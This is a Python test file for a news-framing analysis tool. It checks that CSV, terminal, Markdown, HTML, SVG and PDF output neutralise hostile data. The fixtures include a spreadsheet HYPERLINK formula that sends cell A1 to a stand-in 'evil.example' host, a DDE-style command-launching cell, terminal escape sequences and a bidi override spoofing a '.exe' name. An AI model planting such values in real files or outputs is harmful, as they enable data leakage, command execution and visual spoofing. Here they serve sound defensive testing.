"""Hostile data on the output side (issue 23, C1–C4 and F1): spreadsheet formulas, terminal escapes,
bidi spoofing, malformed explorer links, invisible characters inside indicator words.

Every name, sentence and corpus edit below was written for this test; the seed study is only the base
the edits are made on.
"""
from __future__ import annotations

import csv
import io
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from analysis.cli import main
from analysis.io import untrusted
from analysis.match.patterns import MatchText, Term
from analysis.report import markdown as md
from analysis.text.normalize import normalize_with_map, original_span

ROOT = Path(__file__).resolve().parents[1]
DATA = ROOT / "data"
ART4 = "articles/004_fb623174a5c9094e.txt"

RLO, PDF, RLI, FSI, PDI = "\u202e", "\u202c", "\u2067", "\u2068", "\u2069"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
OUTLET_RLO = "Arab Post" + RLO + " exe.live"        # an override never closed
OUTLET_RLI = RLI + "Gulf Wire"                      # an isolate never closed
OUTLET_ESC = "Daily\x1b[2J\x1b[8m\x07 Desk"          # clear screen, conceal, bell
LABEL = "+cmd|' /C calc'!A0 Postman"
ACTOR = "@SUM(1+1) Kadhimi"
# Article lines: one begins with a formula sign, one carries terminal escapes; both coded (ساعي بريد).
DASH_LINE = "-2+3 وقال مسؤول إن العراق لن يكون ساعي بريد بين طهران وواشنطن."
ESC_LINE = "وقال مسؤول \x1b]0;owned\x07\x1b[31mإن العراق لن يكون ساعي بريد\r بين طهران وواشنطن."
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
TERMINAL_BAD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _rewrite_csv(path: Path, change) -> None:
    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    for i, r in enumerate(rows):
        change(i, r)
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=list(rows[0]), lineterminator="\n")
    w.writeheader()
    w.writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")


def hostile_names(d: Path) -> None:
    names = [FORMULA, OUTLET_RLO, OUTLET_RLI, OUTLET_ESC]
    _rewrite_csv(d / "outlets.csv", lambda i, r: r.update(name_en=names[i]) if i < len(names) else None)
    cb = yaml.safe_load((d / "codebook.yaml").read_text(encoding="utf-8"))
    cb["frames"][0]["label_en"] = LABEL
    (d / "codebook.yaml").write_text(yaml.safe_dump(cb, allow_unicode=True, sort_keys=False), encoding="utf-8")
    actors = yaml.safe_load((d / "actors.yaml").read_text(encoding="utf-8"))
    actors["actors"][0]["name_en"] = ACTOR
    (d / "actors.yaml").write_text(yaml.safe_dump(actors, allow_unicode=True, sort_keys=False), encoding="utf-8")
    with (d / ART4).open("a", encoding="utf-8") as f:  # appended: earlier offsets (gold, translations) hold
        f.write("\n" + DASH_LINE + "\n" + ESC_LINE + "\n")


@pytest.fixture(scope="module")
def study(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile_out")
    data, out = base / "data", base / "out"
    shutil.copytree(DATA, data)
    hostile_names(data)
    return data, out


@pytest.fixture(scope="module")
def coded(study):
    data, out = study
    assert main(["code", "--data", str(data), "--out", str(out), "--quiet", "--jobs", "1"]) == 0
    return out / "tables"


def _cells(path: Path):
    with path.open(encoding="utf-8", newline="") as f:
        for line, row in enumerate(csv.reader(f), 1):
            for col, v in enumerate(row):
                yield line, col, v


# ---- C1: formula cells --------------------------------------------------------------------
def test_csv_cell_neutralizer_by_hand():
    assert untrusted.csv_cell("=1+2") == "'=1+2"
    assert untrusted.csv_cell("+1") == "'+1" and untrusted.csv_cell("-x") == "'-x" and untrusted.csv_cell("@A") == "'@A"
    assert untrusted.csv_cell("\tx") == "'\tx" and untrusted.csv_cell("\rx") == "'\rx"
    assert untrusted.csv_cell("'=x") == "''=x"                   # so reading back is exact
    assert untrusted.csv_cell("\x1b=x") == "'=x"                 # a control hiding the sign is dropped first
    assert untrusted.csv_cell("a=b") == "a=b" and untrusted.csv_cell("'quoted'") == "'quoted'"
    for v in ("=1+2", "'=x", "-x", "plain", "'quoted'", "''@y"):
        assert untrusted.from_csv_cell(untrusted.csv_cell(v)) == v


def test_csv_rows_written_in_arrow_by_hand():
    """The rows ``csv_lines`` writes, worked out by hand: a formula start behind a ', controls dropped,
    a comma, a double quote or a line break quoted (the quote doubled), no value empty, numbers and
    flags as Python prints them; and each row picked out alone."""
    df = pd.DataFrame({"text": pd.array(["=1+2", "a,b", 'say "no"', "two\nlines", "\x07bell", None, "عربي، نص"], dtype="str"),
                       "n": [1, -2, 3, 40, 5, 6, 7], "flag": [True, False, True, False, True, False, True]})
    lines = untrusted.csv_lines(df)
    rows = ["'=1+2,1,True\n", '"a,b",-2,False\n', '"say ""no""",3,True\n', '"two\nlines",40,False\n',
            "bell,5,True\n", ",6,False\n", "عربي، نص,7,True\n"]
    assert lines.text == "".join(rows).encode("utf-8") == untrusted.csv_rows(df)
    assert [lines.row(i).decode("utf-8") for i in range(7)] == rows
    assert lines.dtypes == ("str", "int64", "bool")
    assert untrusted.csv_lines(df[["text"]]) is None          # one column: Python writes an empty cell as ""
    assert untrusted.csv_lines(df.assign(n=df.n / 2)) is None  # floats: pandas' own way
    assert untrusted.csv_rows(df.assign(n=df.n / 2)).startswith(b"'=1+2,0.5,True\n")


def test_a_parts_written_rows_are_used_only_with_the_column_types_they_were_written_with():
    """The mentions table's CSV rows come from its parts in the table's order; a part whose rows were
    written with other column types (another batch's, say) has them written again."""
    from analysis.extract.batch import MENTION_TABLE, FramePart, mention_rows
    rows = [{c: "" for c in MENTION_TABLE} | {"article_id": a, "start": s, "end": s + 1, "frame": f, "in_quote": False,
                                              "speaker_cue_at": -1, "stance_cue_at": -1, "sentence_start": 0, "sentence_end": 9}
            for a, s, f in (("a1", 5, "f1"), ("a1", 2, "f2"), ("a2", 0, "f1"))]
    parts = [FramePart({c: [r[c] for r in rows if r["frame"] == f] for c in MENTION_TABLE}, [], [], []) for f in ("f1", "f2")]
    order = [2, 0, 1]  # a1 at 2 (f2), a1 at 5 (f1), a2 at 0 (f1): the parts' rows are f1's two, then f2's
    table = pd.DataFrame({c: [[r for f in ("f1", "f2") for r in rows if r["frame"] == f][i][c] for i in order]
                          for c in MENTION_TABLE}, columns=MENTION_TABLE)
    whole = untrusted.csv_rows(table)
    assert [line.split(",")[0] for line in whole.decode().splitlines()] == ["a1", "a1", "a2"]
    assert mention_rows(table, order, parts) == whole
    assert parts[0].lines.text.count(b"\n") == 2 and parts[1].lines.text.count(b"\n") == 1  # kept on the parts
    parts[1].lines = untrusted.Lines(b"STALE\n", (6,), ("object",) * len(MENTION_TABLE))
    assert mention_rows(table, order, parts) == whole
    parts[1].lines = untrusted.Lines(b"KEPT\n", (5,), untrusted.dtypes_of(table))  # the same types: used as kept
    assert mention_rows(table, order, parts) == whole.replace(whole.splitlines(keepends=True)[0], b"KEPT\n")


def test_no_csv_cell_starts_a_formula(coded):
    bad = [(p.name, line, v[:40]) for p in sorted(coded.glob("*.csv")) for line, _, v in _cells(p)
           if v and v[0] in "=+-@\t\r" and not NUMBER.fullmatch(v)]
    assert bad == []
    arts = pd.read_csv(coded / "articles.csv", dtype=str, keep_default_na=False)
    assert "'" + FORMULA in set(arts.outlet)                      # the name is there, behind a '
    assert FORMULA in set(pd.read_parquet(coded / "articles.parquet").outlet)  # Parquet keeps the raw value
    of = pd.read_csv(coded / "outlet_frame.csv", dtype=str, keep_default_na=False)
    assert "'" + LABEL in set(of.label)
    seg = pd.read_csv(coded / "segments.csv", dtype=str, keep_default_na=False)
    assert seg.sentence.str.startswith("'-2+3 ").sum() == 1          # the article sentence, in the streamed table
    assert (pd.read_csv(coded / "mentions.csv").stance_cue_at == -1).any()  # numbers stay numbers


def test_translator_file_is_neutralized_and_merges_back(study, coded, monkeypatch, tmp_path):
    from analysis import translations
    data, out = study
    seg = pd.read_csv(coded / "segments.csv", dtype=str, keep_default_na=False)
    row = seg[seg.sentence.str.startswith("'-2+3 ")].iloc[0]
    start, end = int(row.start), int(row.end)
    text = (data / ART4).read_text(encoding="utf-8")
    assert text[start:end] == DASH_LINE
    eid = f"004:{start}-{end}"
    todo = [{"evidence_id": eid, "article_id": "004", "start": start, "end": end, "arabic": text[start:end]}]
    monkeypatch.setattr(translations, "missing", lambda b: (todo, [{"arabic": "=SUM(A1)"}]))
    p, g = translations.write_missing(None, tmp_path)
    rows = list(csv.DictReader(p.open(encoding="utf-8")))
    assert rows[0]["arabic"] == "'" + DASH_LINE
    assert next(csv.DictReader(g.open(encoding="utf-8")))["arabic"] == "'=SUM(A1)"
    rows[0]["english"] = "An official said Iraq will not be a postman."  # the translator's work
    filled = tmp_path / "filled.csv"
    with filled.open("w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]), lineterminator="\n")
        w.writeheader()
        w.writerows(rows)
    target = tmp_path / "study"
    shutil.copytree(data, target)
    assert main(["translations", "--merge", str(filled), "--data", str(target), "--out", str(out), "--quiet"]) == 0
    merged = {r["evidence_id"]: r for r in csv.DictReader((target / "translations.csv").open(encoding="utf-8"))}
    assert merged[eid]["arabic"] == DASH_LINE                    # the data file keeps the article's text


# ---- C2: control characters -----------------------------------------------------------------
def test_no_control_character_in_a_csv_cell(coded):
    bad = [(p.name, line, repr(v[:30])) for p in sorted(coded.glob("*.csv")) for line, _, v in _cells(p)
           if re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", v)]
    assert bad == []
    seg = pd.read_csv(coded / "segments.csv", dtype=str, keep_default_na=False)
    assert seg.sentence.str.contains("owned[31mإن العراق", regex=False).sum() == 1  # the rest of the text stays


def test_terminal_gets_no_escape_from_data(study, coded, capsys):
    data, out = study
    assert main(["kwic", "ساعي بريد", "--data", str(data), "--out", str(out), "--quiet", "--jobs", "1"]) == 0
    kwic = capsys.readouterr()
    seg = pd.read_csv(coded / "segments.csv", dtype=str, keep_default_na=False)
    sid = seg[seg.sentence.str.contains("owned", regex=False)].sentence_id.iloc[0]
    assert main(["explain", sid, "--data", str(data), "--out", str(out), "--quiet", "--jobs", "1"]) == 0
    explain = capsys.readouterr()
    assert main(["code", "--data", str(data), "--out", str(out), "--quiet", "--jobs", "1"]) == 0
    code = capsys.readouterr()
    for name, got in (("kwic", kwic), ("explain", explain), ("code", code)):
        printed = got.out + got.err
        assert TERMINAL_BAD.findall(printed) == [], name
    assert "owned[31mإن العراق" in kwic.out and "owned" in explain.out
    assert "Daily[2J[8m Desk" in code.out and "Arab Post exe.live" in code.out


def test_terminal_printer_by_hand():
    assert untrusted.terminal("a\x1b[2Jb\x07c\rd\x9be\u202ef\n\tg") == "a[2Jbcdef\n\tg"


@pytest.mark.parametrize("name, line", [("outlets.csv", 3), ("events.csv", 2), ("translations.csv", 4), ("gold.csv", 5)])
def test_nul_byte_is_refused_at_load(tmp_path, capsys, name, line):
    data = tmp_path / "data"
    shutil.copytree(DATA, data)
    lines = (data / name).read_text(encoding="utf-8").split("\n")
    lines[line - 1] = lines[line - 1][:5] + "\x00" + lines[line - 1][5:]
    (data / name).write_text("\n".join(lines), encoding="utf-8")
    assert main(["validate", "--data", str(data)]) == 2
    err = capsys.readouterr().err
    assert f"{name}:{line}: a NUL byte" in err
    assert "fix: remove it: tr -d" in err and "Traceback" not in err


# ---- C3: bidi -----------------------------------------------------------------------------------
def test_bidi_controls_kept_only_in_pairs():
    assert untrusted.balance_bidi("a" + RLO + "b") == "ab"                       # never closed: dropped
    assert untrusted.balance_bidi("a" + PDF + "b" + PDI) == "ab"                 # closers with no opener
    assert untrusted.balance_bidi(RLO + "ab" + PDF + "c") == RLO + "ab" + PDF + "c"
    assert untrusted.balance_bidi(RLI + "x" + RLO + "y" + PDI) == RLI + "xy" + PDI  # the isolate ends it
    assert untrusted.balance_bidi(RLI + "x" + FSI + "y" + PDI) == "x" + FSI + "y" + PDI


def test_names_are_isolated_in_markdown():
    assert md.escape(OUTLET_RLO) == "Arab Post exe\\.live"                        # the open override dropped
    assert md.escape(OUTLET_RLI) == "Gulf Wire"
    assert md.escape(RLO + "x" + PDF) == f'[{RLO}x{PDF}]{{dir="auto"}}'
    assert md.escape("Al Forat") == "Al Forat"                                 # left-to-right text as before
    assert md.escape("שלום 20") == '[שלום 20]{dir="auto"}'                      # right-to-left letters
    assert md.escape("Arab Post\u200f") == '[Arab Post\u200f]{dir="auto"}'          # a right-to-left mark
    assert md.join_names(["A", RLO + "B" + PDF]) == f'A and [{RLO}B{PDF}]{{dir="auto"}}'
    assert md.join_names(["A", RLO + "\x1b"]) == "A and \\(no visible name\\)"      # nothing left to show
    # a caption built from a label: the open override cannot reverse the words after the label
    assert md.escape(f"{LABEL}{RLO}: claims, each traceable") == md.escape(f"{LABEL}: claims, each traceable")


def test_explorer_data_keeps_bidi_controls_only_in_pairs():
    import json

    from analysis.report import explorer
    blob = {"o": OUTLET_RLO, "rows": [{"sp": RLO + "x" + PDF, "q": 'a "quoted' + RLI + '" \\ word'}]}
    assert json.loads(explorer.json_for_script(blob)) == {
        "o": "Arab Post exe.live", "rows": [{"sp": RLO + "x" + PDF, "q": 'a "quoted" \\ word'}]}


class _Bidi(HTMLParser):
    """Text runs holding a bidi control, with whether an ancestor isolates them (``dir`` or ``<bdi>``)."""

    def __init__(self):
        super().__init__()
        self.stack, self.runs, self.skip = [], [], 0

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "style"):
            self.skip += 1
        if tag not in ("br", "img", "meta", "link", "input", "hr", "col", "wbr", "source"):
            self.stack.append(tag == "bdi" or any(k == "dir" for k, _ in attrs) or bool(self.stack and self.stack[-1]))

    def handle_endtag(self, tag):
        if tag in ("script", "style"):
            self.skip -= 1
        if self.stack:
            self.stack.pop()

    def handle_data(self, data):
        if not self.skip and re.search("[\u202a-\u202e\u2066-\u2069]", data):
            self.runs.append((data, self.stack[-1] if self.stack else False))


@pytest.fixture(scope="module")
def rendered(study, coded):
    import analysis.render.pdf as pdf_module
    data, out = study
    sources = []
    real = pdf_module.compile_pdf

    def keep_source(typ, pdf):
        sources.append(Path(typ).read_text(encoding="utf-8"))
        return real(typ, pdf)

    mp = pytest.MonkeyPatch()
    mp.setattr(pdf_module, "compile_pdf", keep_source)
    try:
        assert main(["render", "--data", str(data), "--out", str(out), "--quiet", "--builtin", "--force"]) == 0
    finally:
        mp.undo()
    return out, sources[-1]


def test_html_isolates_every_hostile_name(rendered):
    out, _ = rendered
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "Arab Post exe.live" in html and "Gulf Wire" in html
    p = _Bidi()
    p.feed(html)
    assert [d for d, _ in p.runs if RLO in d or RLI in d] == []   # both were never closed: dropped
    naked = [d[:60] for d, isolated in p.runs if not isolated]
    assert naked == []
    unbalanced = [d[:60] for d, _ in p.runs if untrusted.balance_bidi(d) != d]
    assert unbalanced == []


def test_typst_isolates_names_and_pdf_keeps_clause_order(rendered):
    import subprocess
    out, typ = rendered
    assert RLO not in typ                                                      # the open override was dropped
    assert untrusted.balance_bidi(typ) == typ                                  # every isolate closed
    assert "speaker: " + FSI + "مسؤول" + PDI in typ                           # a right-to-left name, isolated
    text = subprocess.run(["pdftotext", "-layout", str(out / "report.pdf"), "-"], capture_output=True, text=True).stdout
    assert "Arab Post exe.live" in text and "evil.exe" not in text and "tsoP" not in text
    judgments = text.split("Key judgments", 1)[-1].split("\f", 1)[0]
    assert re.search(r"\d+ of \d+ outlets carry the frame", judgments)
    assert "sentence" in judgments and "sen tences" not in judgments


# ---- C4: malformed links in the explorer ----------------------------------------------------------
@pytest.mark.skipif(shutil.which("chromium") is None, reason="Debian chromium is not installed (bash scripts/setup.sh)")
@pytest.mark.parametrize("fragment", ["#%", "#ev-%E0%A4%A", "#cell-%"])
def test_malformed_fragment_keeps_the_explorer_whole(tmp_path, fragment):
    from playwright.sync_api import sync_playwright

    from analysis.report import explorer
    ev = pd.DataFrame([{
        "evidence_id": f"t1:{k * 20}-{k * 20 + 10}", "article_id": "t1", "outlet": "Outlet A",
        "date": pd.Timestamp("2020-08-18").date(), "file": "articles/t1.txt", "frame": "postman",
        "stance": "asserted", "speaker": "outlet", "start": k * 20, "end": k * 20 + 10, "highlights": [],
        "arabic": "نص للاختبار", "english": "text for testing"} for k in range(3)])
    body = explorer.explorer(ev, lambda f: "Postman", ["postman"]).split("\n", 1)[1].rsplit("\n```", 1)[0]
    page = tmp_path / "x.html"
    page.write_text(f"<!doctype html><html><body>{body}</body></html>", encoding="utf-8")
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=shutil.which("chromium"),
                              args=["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"])
        tab = b.new_page()
        errors = []
        tab.on("pageerror", lambda e: errors.append(str(e)))
        tab.goto(page.as_uri() + fragment)
        on_load = (tab.text_content("#explorer .ev-count"), len(tab.query_selector_all("#explorer tbody tr")))
        tab.goto(page.as_uri() + "#ev-t1:20-30")                  # one sentence, then a bad link by history
        one = len(tab.query_selector_all("#explorer tbody tr"))
        tab.evaluate(f"location.hash = {fragment!r}")
        tab.wait_for_timeout(200)
        on_pop = (tab.text_content("#explorer .ev-count"), len(tab.query_selector_all("#explorer tbody tr")))
        b.close()
    assert errors == []
    assert on_load == ("3", 3) and one == 1 and on_pop == ("3", 3)


# ---- F1: invisible characters inside words ----------------------------------------------------------
def _matched(pattern: str, text: str) -> list[str]:
    _, index = normalize_with_map(text)
    return [text[slice(*original_span(index, s, e))] for s, e in Term(pattern).find(MatchText.of(text))]


@pytest.mark.parametrize("pattern, text, word", [
    ("ساعي بريد", "لن يكون سا\u200cعي بريد", "سا\u200cعي بريد"),               # ZWNJ
    ("ساعي بريد", "لن يكون ساعي بر\u200dيد", "ساعي بر\u200dيد"),               # ZWJ
    ("ساعي بريد", "لن يكون سا\u200fعي بريد", "سا\u200fعي بريد"),               # RLM
    ("ساعي بريد", "لن يكون ساعي بر\u200eيد", "ساعي بر\u200eيد"),               # LRM
    ("ساعي بريد", "لن يكون ساعي\u200bبريد", "ساعي\u200bبريد"),                 # ZWSP between the words
    ("ساعي بريد", "لن يكون سا\u2060عي بريد", "سا\u2060عي بريد"),               # word joiner
    ("ساعي بريد", "لن يكون سا\u00adعي بريد", "سا\u00adعي بريد"),               # soft hyphen
    ("postman", "Iraq is no post\u00adman here", "post\u00adman"),
    ("go-between", "Iraq is no go\u2011between here", "go\u2011between"),      # non-breaking hyphen
])
def test_invisible_characters_do_not_stop_a_match(pattern, text, word):
    assert _matched(pattern, text) == [word]


INVISIBLES = st.sampled_from(list("\u200c\u200d\u200e\u200f\u00ad\u2060"))


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.integers(1, 8), INVISIBLES), max_size=4))
def test_invisible_inside_the_words_still_matches_the_whole_word(cuts):
    words = "ساعي بريد"
    text = list(words)
    for pos, ch in sorted(cuts, reverse=True):
        if text[pos - 1] != " " and pos < len(text) and text[pos] != " ":
            text.insert(pos, ch)
    word = "".join(text)
    sentence = "قال إن العراق لن يكون " + word + " بين طهران وواشنطن"
    assert _matched("ساعي بريد", sentence) == [word]


# ---- found in the trial: figure labels, the render history ------------------------------------------
def test_figure_labels_with_controls_give_valid_svg(tmp_path):
    import xml.etree.ElementTree as ET

    from analysis.report import figures
    articles = pd.DataFrame({"article_id": ["000"], "outlet": [OUTLET_ESC + RLO], "date": [pd.Timestamp("2020-08-18").date()],
                             "date_confidence": ["high"]})
    events = pd.DataFrame({"id": ["e1"], "date": [pd.Timestamp("2020-08-01").date()], "label": ["Event\x1b[31m\x07 red"]})
    fig = figures.figure("timeline", figures.timeline, articles, events, "Timeline", out_dir=tmp_path)
    root = ET.fromstring(fig.svg)                                   # an ESC made it invalid XML (typst refused it)
    comments = re.findall(r"<!-- (.*?) -->", fig.svg)
    assert root.tag.endswith("svg") and "Daily[2J[8m Desk" in comments and "Event[31m red" in comments


def test_render_history_round_trips_neutralized_cells(tmp_path):
    from analysis.results import changes
    tables = {
        "articles": pd.DataFrame({"article_id": ["000"], "outlet": [FORMULA], "date": ["2020-08-18"], "file": ["-a.txt"],
                                  "sha256": ["'=x"]}),
        "counts": pd.DataFrame({"outlet": ["@SUM(1)"], "frame": ["postman"], "label": [LABEL], "sentences": [3]}),
        "mentions": pd.DataFrame({"evidence_id": ["000:0-5"], "frame": ["postman"], "article_id": ["000"],
                                  "outlet": [FORMULA], "date": ["2020-08-18"], "stance": ["denied"], "speaker": ["-x"],
                                  "arabic": [DASH_LINE], "english": ["+1"]}),
    }
    changes.write_snapshot(tmp_path, tables)
    assert (tmp_path / "articles.csv").read_text(encoding="utf-8").splitlines()[1].startswith("000,\"'=HYPERLINK(")
    back = changes.read_snapshot(tmp_path)
    expected = {name: changes._strings(df) for name, df in tables.items()}
    expected["counts"] = expected["counts"].assign(sentences=3)
    for name, df in expected.items():
        pd.testing.assert_frame_equal(back[name], df, check_dtype=False)
    assert changes.compare(back, expected).text().endswith("nothing changed.\n")
